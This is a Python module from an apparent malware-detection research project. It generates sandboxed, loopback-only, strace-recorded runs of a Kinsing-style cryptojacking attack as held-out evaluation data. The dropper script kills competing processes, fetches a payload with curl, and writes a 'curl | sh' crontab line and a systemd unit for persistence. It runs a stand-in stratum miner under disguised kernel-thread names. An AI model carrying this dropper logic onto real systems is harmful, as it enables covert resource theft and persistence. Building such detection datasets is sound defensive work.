"""A held-out attack family shaped like Kinsing, recorded only for evaluation.

Each run happens inside its own network namespace (``unshare -n``, loopback
only) and its own folder under ``<sandbox>/kinsing/<run_id>``. A harness, not
traced, brings the loopback up and starts what the attack needs around it:

* the lab HTTP server (``python3 -m http.server`` on 127.0.0.1) serving the
  payload: a renamed copy of the system ``python3`` and the miner script;
* a fake stratum pool (``stratum.py``) on 127.0.0.1 that hands out jobs and
  accepts every share;
* "competing miners": copies of ``sleep`` the harness itself started, whose
  PIDs it writes to ``competitors.pids``.

Then, under strace, the dropper shell (``dropper.sh``) looks at the process
list, kills the competitors by the PIDs in that file, downloads the payload
with curl, writes persistence (a crontab line and a systemd unit) into the
run's ``persist`` folder (never the real crontab or /etc), and starts the
renamed miner in the background. The miner is our own stand-in, a different
implementation from XMRig: Python threads hashing with ``hashlib.scrypt``
(OpenSSL's scrypt, the Litecoin-style proof of work) or double SHA-256, that
subscribe, authorize and submit shares to the fake pool over JSON-RPC.

The trace starts at the dropper (its first line's PID is the run's root), so
the harness and its helpers are never in it. Runs are marked split
``heldout``: no model or baseline trains on them.
"""

from __future__ import annotations

import json
import random
import shutil
from dataclasses import dataclass
from pathlib import Path

import structlog

from systerns.core.errors import SourceError
from systerns.lab.pool import POOL_SCRIPT
from systerns.lab.sandbox import SYSTEM_PATH, Sandbox
from systerns.lab.tracefile import run_harness, trace_facts
from systerns.producers.trace import KILL_GRACE_S, STRACE_OPTIONS

log = structlog.get_logger(__name__)

FAMILY = "kinsing"
LABEL = "kinsing"
HELD_OUT_SPLIT = "heldout"
#: Names the payload is saved and run under (Kinsing's own and common disguises).
PAYLOAD_NAMES = (
    "kdevtmpfsi",
    "kthreaddk",
    "dbused",
    "sysupdate",
    "networkservice",
    "kworkerds",
)
ALGORITHMS = ("scrypt", "sha256d")
#: Seconds each run lasts from the dropper's start (the miner runs till then).
RUN_SECONDS_RANGE = (14, 20)
_COMPETITOR_NAMES = ("xmr-stak", "kthreaddi", "sysguard", "watchbog")

_DROPPER = r"""#!/bin/sh
# Lab stand-in of a Kinsing-style dropper. Every path is under $LAB_DIR.
base="$1"; name="$2"
cd "$LAB_DIR" || exit 1
ps -eo pid,comm >/dev/null 2>&1
for pid in $(cat competitors.pids); do kill -9 "$pid" 2>/dev/null; done
mkdir -p tmp persist
curl -s -o "tmp/$name" "$base/bin/payload" || exit 2
curl -s -o tmp/.m.py "$base/m.py" || exit 2
curl -s -o tmp/.cfg.json "$base/cfg.json" || exit 2
chmod +x "tmp/$name"
echo "* * * * * curl -fsSL $base/d.sh | sh >/dev/null 2>&1" > persist/crontab
cat > persist/bot.service <<EOF
[Unit]
Description=$name
[Service]
ExecStart=$LAB_DIR/tmp/$name $LAB_DIR/tmp/.m.py $LAB_DIR/tmp/.cfg.json
Restart=always
[Install]
WantedBy=multi-user.target
EOF
cd tmp
nohup "./$name" .m.py .cfg.json >/dev/null 2>&1 &
echo $! > ../miner.pid
"""

_MINER = r"""# Lab stand-in miner: scrypt or double SHA-256, shares over stratum.
import hashlib, json, os, socket, struct, sys, threading

cfg = json.load(open(sys.argv[1]))
os.nice(cfg["nice"])
sock = socket.create_connection(("127.0.0.1", cfg["port"]))
rfile = sock.makefile("r")
lock = threading.Lock()
stop = threading.Event()
job = {}


def send(msg_id, method, params):
    line = json.dumps({"id": msg_id, "method": method, "params": params}) + "\n"
    with lock:
        sock.sendall(line.encode())


def digest(blob):
    if cfg["algo"] == "scrypt":
        return hashlib.scrypt(blob, salt=blob, n=cfg["n"], r=1, p=1, dklen=32)
    return hashlib.sha256(hashlib.sha256(blob).digest()).digest()


def work(first):
    nonce = first
    while not stop.is_set():
        blob = job["blob"] + struct.pack("<I", nonce)
        if int.from_bytes(digest(blob)[-2:], "little") < cfg["share_below"]:
            send(4, "mining.submit", [cfg["user"], job["id"], "%08x" % nonce])
        nonce += cfg["threads"]


send(1, "mining.subscribe", ["lab-miner/0.1"])
send(2, "mining.authorize", [cfg["user"], "x"])
threads = []
try:
    for line in rfile:
        msg = json.loads(line)
        if msg.get("method") == "mining.notify":
            job["id"] = msg["params"][0]
            job["blob"] = bytes.fromhex(msg["params"][1])
            if not threads:
                for k in range(cfg["threads"]):
                    t = threading.Thread(target=work, args=(k,), daemon=True)
                    t.start()
                    threads.append(t)
except KeyboardInterrupt:
    pass
stop.set()
"""


_HARNESS = r"""#!/bin/bash
# Runs inside `unshare -n`: loopback, helpers, then the traced dropper.
set -u
run_dir="$1"; trace="$2"; seconds="$3"; name="$4"; shift 4
cd "$run_dir" || exit 1
ip link set lo up || exit 3
python3 -m http.server 8080 --bind 127.0.0.1 --directory www >/dev/null 2>&1 &
http_pid=$!
python3 stratum.py 3333 86400 >/dev/null 2>&1 &
pool_pid=$!
: > competitors.pids
for c in competitors/*; do "$c" 600 & echo $! >> competitors.pids; done
for _ in $(seq 100); do
  (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null && \
  (exec 3<>/dev/tcp/127.0.0.1/3333) 2>/dev/null && break
  sleep 0.1
done
LAB_DIR="$run_dir" timeout -s INT -k "$KILL_GRACE" "$seconds" \
  strace "$@" -o "$trace" -- /bin/sh dropper.sh http://127.0.0.1:8080 "$name"
rc=$?
for pid in $http_pid $pool_pid $(cat competitors.pids) $(cat miner.pid 2>/dev/null); do
  kill "$pid" 2>/dev/null
done
wait
exit $rc
"""


@dataclass(frozen=True, slots=True)
class AttackRun:
    """One planned run of the family."""

    run_id: str
    payload_name: str
    algo: str
    threads: int
    scrypt_n: int
    nice: int
    seconds: float
    run_dir: Path


def plan_family_runs(sb: Sandbox, *, n_runs: int, seed: int) -> list[AttackRun]:
    """Lay out ``n_runs`` runs with varied payload names, algorithms and threads.

    Each run's folder gets the dropper, the harness, the pool, the served files
    and its competitor copies of ``sleep``.

    Raises:
        SourceError: ``python3``, ``sleep`` or ``ip`` is missing from the system.
    """
    rng = random.Random(seed * 31 + 5)  # noqa: S311 - seeded for reproducible lab data, not for security
    python = shutil.which("python3", path=SYSTEM_PATH)
    sleep = shutil.which("sleep", path=SYSTEM_PATH)
    if python is None or sleep is None or shutil.which("ip", path=SYSTEM_PATH) is None:
        raise SourceError("the attack family needs python3, sleep and ip")
    root = sb.root / FAMILY
    runs = []
    for i in range(n_runs):
        name = PAYLOAD_NAMES[i % len(PAYLOAD_NAMES)]
        algo = ALGORITHMS[i % len(ALGORITHMS)]
        run = AttackRun(
            run_id=f"{FAMILY}-{name}-{i:03d}",
            payload_name=name,
            algo=algo,
            threads=rng.choice((1, 2)),
            scrypt_n=rng.choice((1024, 2048, 4096)),
            nice=rng.choice((0, 5, 19)),
            seconds=float(rng.randint(*RUN_SECONDS_RANGE)),
            run_dir=root / f"{FAMILY}-{name}-{i:03d}",
        )
        _lay_out(run, Path(python).resolve(), Path(sleep), rng)
        runs.append(run)
    return runs


def _lay_out(run: AttackRun, python: Path, sleep: Path, rng: random.Random) -> None:
    d = run.run_dir
    if d.exists():
        shutil.rmtree(d)
    (d / "www" / "bin").mkdir(parents=True)
    (d / "competitors").mkdir()
    (d / "dropper.sh").write_text(_DROPPER)
    (d / "harness.sh").write_text(_HARNESS)
    (d / "stratum.py").write_text(POOL_SCRIPT)
    (d / "www" / "m.py").write_text(_MINER)
    cfg = {
        "port": 3333,
        "user": f"lab{rng.randrange(10**6):06d}",
        "algo": run.algo,
        "threads": run.threads,
        "n": run.scrypt_n,
        "nice": run.nice,
        # A share every ~0.5-2 s per thread, as a pool sets its difficulty.
        "share_below": 64 if run.algo == "scrypt" else 1,
    }
    (d / "www" / "cfg.json").write_text(json.dumps(cfg))
    (d / "www" / "d.sh").write_text("# placeholder for the persistence fetch\n")
    shutil.copy2(python, d / "www" / "bin" / "payload")
    for name in rng.sample(_COMPETITOR_NAMES, rng.randint(1, 3)):
        shutil.copy2(sleep, d / "competitors" / name)


def record_family_run(run: AttackRun, traces: Path) -> dict:
    """Record one run (``unshare -n`` harness, dropper under strace).

    Returns:
        Its manifest entry (split ``heldout``, family ``kinsing``).

    Raises:
        SourceError: a needed program is missing or no trace was written.
    """
    unshare = shutil.which("unshare", path=SYSTEM_PATH)
    bash = shutil.which("bash", path=SYSTEM_PATH)
    strace = shutil.which("strace", path=SYSTEM_PATH)
    timeout = shutil.which("timeout", path=SYSTEM_PATH)
    if not (unshare and bash and strace and timeout):
        raise SourceError("unshare, bash, strace and timeout are needed")
    trace = traces / f"{run.run_id}.strace"
    argv = ["/bin/sh", "dropper.sh", "http://127.0.0.1:8080", run.payload_name]
    cmd = [
        timeout,
        "-k",
        "5",
        f"{run.seconds + 30:g}",
        unshare,
        "-n",
        bash,
        str(run.run_dir / "harness.sh"),
        str(run.run_dir),
        str(trace),
        f"{run.seconds:g}",
        run.payload_name,
        *STRACE_OPTIONS,
    ]
    env = {"PATH": SYSTEM_PATH, "HOME": str(run.run_dir), "KILL_GRACE": "3"}
    done, duration_s = run_harness(cmd, env=env, cwd=run.run_dir, trace=trace,
                                   run_id=run.run_id)
    facts = trace_facts(trace, traces, done.returncode, duration_s)
    persisted = sorted(p.name for p in (run.run_dir / "persist").glob("*"))
    log.info(
        "lab_family_run",
        run_id=run.run_id,
        exit_code=done.returncode,
        duration_s=round(duration_s, 1),
        trace_lines=facts["trace_lines"],
        persisted=persisted,
    )
    return {
        "run_id": run.run_id,
        "label": LABEL,
        "family": FAMILY,
        "malicious": True,
        "variant": f"{run.algo}_t{run.threads}",
        "argv": argv,
        "argv0": None,
        "shown_name": run.payload_name,
        "renamed": True,
        "rename_kind": "copy",
        "netns": True,
        "lang": False,
        "cwd": str(run.run_dir),
        "stdin": None,
        "timeout_s": run.seconds,
    } | facts | {
        "split": HELD_OUT_SPLIT,
        "attack": {
            "payload": "python3 copy running the lab miner script",
            "algo": run.algo,
            "threads": run.threads,
            "scrypt_n": run.scrypt_n if run.algo == "scrypt" else None,
            "nice": run.nice,
            "persisted": persisted,
            "kill_grace_s": KILL_GRACE_S,
        },
    }
